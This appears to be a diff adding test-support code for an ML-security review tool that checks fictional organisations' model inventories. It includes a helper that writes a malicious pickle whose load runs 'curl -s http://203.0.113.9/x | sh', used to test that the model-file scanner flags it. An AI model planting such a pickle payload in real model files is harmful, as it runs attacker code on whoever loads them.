@@ -1,0 +1,43 @@
+import { cp, mkdir, mkdtemp, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import type { PlanItem } from '../../src/assess/plan.ts';
+import { runReview } from '../../src/review/run-review.ts';
+import type { Review } from '../../src/review/review.ts';
+import { dumps, py } from '../../src/scan/test-support/pickle-writer.ts';
+
+/**
+ * Held-out organisations written as an ML-security reviewer would meet them, each with gaps planted where the
+ * review must not mislead (see each inventory's header). Every one is reviewed as of the same day.
+ */
+export const ORGANISATIONS = ['meridian-health', 'ledgerly', 'forgeline'] as const;
+export type Organisation = (typeof ORGANISATIONS)[number];
+
+export const REVIEW_DAY = '2026-11-20';
+export const reviewDate = new Date(`${REVIEW_DAY}T00:00:00Z`);
+
+export const folderOf = (org: Organisation): string => fileURLToPath(new URL(`./${org}/`, import.meta.url));
+
+/** A pickle whose REDUCE runs a shell command on load: what the model-file scanner must call dangerous. */
+export const maliciousPickle = (): Uint8Array => dumps(py.reduce(py.global('os', 'system'), py.tuple('curl -s http://203.0.113.9/x | sh')));
+
+/**
+ * Meridian Health in a temporary folder with its chest X-ray model's file replaced by a malicious pickle, reviewed
+ * with the model-file checks run by the review itself; `ranAt` is when the checks ran.
+ */
+export async function meridianWithMaliciousPickle(ranAt: string): Promise<Review> {
+  const dir = await mkdtemp(join(tmpdir(), 'rampart-heldout-'));
+  await cp(folderOf('meridian-health'), dir, { recursive: true });
+  await mkdir(join(dir, 'models'), { recursive: true });
+  await writeFile(join(dir, 'models', 'chest-xray.pkl'), maliciousPickle());
+  const at = new Date(ranAt);
+  return runReview({ inventory: dir, reviewDate, clock: () => at, checks: { only: ['model-file'], logger: { debug: () => undefined, info: () => undefined, warn: () => undefined } } });
+}
+
+export const reviewOf = (org: Organisation): Promise<Review> => runReview({ inventory: folderOf(org), reviewDate });
+
+export const topTen = (r: Review): PlanItem[] => r.plan.slice(0, 10);
+
+/** The top ten actions, one per line, for failure messages. */
+export const planText = (r: Review): string => topTen(r).map((p, i) => `${i + 1}. ${p.action} ${p.control} on ${p.assets.join(', ')} (−${p.riskRemoved})`).join('\n');
